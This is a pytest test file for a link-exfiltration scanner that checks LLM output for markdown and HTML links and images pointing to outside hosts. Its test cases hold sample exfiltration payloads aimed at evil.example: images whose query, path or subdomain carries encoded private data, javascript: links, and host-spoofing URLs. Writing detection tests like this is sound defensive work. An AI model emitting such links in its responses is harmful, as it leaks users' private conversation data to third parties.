import pytest

from langchain_secguard.scan import LinkExfiltrationScanner

LONG = "q=" + "conversation%20about%20a%20patient%20and%20her%20illness" * 2


class TestRisk:
    @pytest.mark.parametrize(
        ("text", "kind", "low", "high"),
        [
            (f"![x](https://evil.example/p.png?{LONG})", "image", 0.9, 0.9),
            ("![x](https://evil.example/p.png)", "image", 0.6, 0.6),
            ("![a]: no\n\n[a]: https://evil.example/p.png", "image", 0.6, 0.6),
            ('<img alt="x" src="//evil.example/p.png">', "image", 0.6, 0.6),
            ("<img src=https://evil.example/p.png>", "image", 0.6, 0.6),
            ('<p style="background:url(https://evil.example/p.png)">', "image", 0.6, 0.6),
            ("![x](\\\\evil.example\\p.png)", "image", 0.6, 0.6),
            ("![x](https://evil.example/SmFuZSBEb2UgaGFzIGRpYWJldGVzIGFuZCBs)", "image", 0.9, 0.9),
            ("![x](https://SmFuZSBEb2UgaGFzIGRpYWJldGVz.evil.example/p.png)", "image", 0.9, 0.9),
            ("[read](https://elsewhere.example/page)", "link", 0.3, 0.35),
            (f"[read](https://evil.example/?{LONG})", "link", 0.6, 0.7),
            ("see https://elsewhere.example/page.", "link", 0.3, 0.35),
            ("[x](javascript:fetch(1))", "link", 1.0, 1.0),
            ("<a href='https://evil.example'>x</a>", "link", 0.3, 0.35),
            ("https://news.example.org/2024/why-hedges-should-be-kept-at-a-medium-height", "link", 0.3, 0.35),
            ("<a href='java&#115;cript:fetch(1)'>x</a>", "link", 1.0, 1.0),
        ],
    )
    def test_of_what_leads_elsewhere(self, text: str, kind: str, low: float, high: float) -> None:
        result = LinkExfiltrationScanner().scan(text)
        assert low <= result.details[kind] <= high
        assert result.valid == (result.risk_score < 0.5)

    @pytest.mark.parametrize(
        "text",
        [
            "no link",
            "![x](/img/p.png)",
            "[x](#chapter)",
            "![x](https://example.com/p.png?q=anything-at-all-and-more)",
            "[x](https://docs.example.com/a)",
            "1 < 2 and a > b",
        ],
    )
    def test_of_what_does_not_or_may(self, text: str) -> None:
        assert LinkExfiltrationScanner(allowed_hosts=["example.com"]).scan(text).risk_score == 0

    def test_a_host_that_merely_ends_alike_is_another(self) -> None:
        scanner = LinkExfiltrationScanner(allowed_hosts=["example.com"])
        assert not scanner.scan("![x](https://evilexample.com/p.png)").valid
        assert not scanner.scan("![x](https://example.com@evil.example/p.png)").valid


def test_urls_can_be_removed() -> None:
    scanner = LinkExfiltrationScanner(allowed_hosts=["example.com"], remove=True)
    result = scanner.scan("![a](https://evil.example/p.png) ![b](https://example.com/p.png)")
    assert (result.text, result.valid) == ("![a]([link removed]) ![b](https://example.com/p.png)", True)
    assert result.risk_score == 0.6
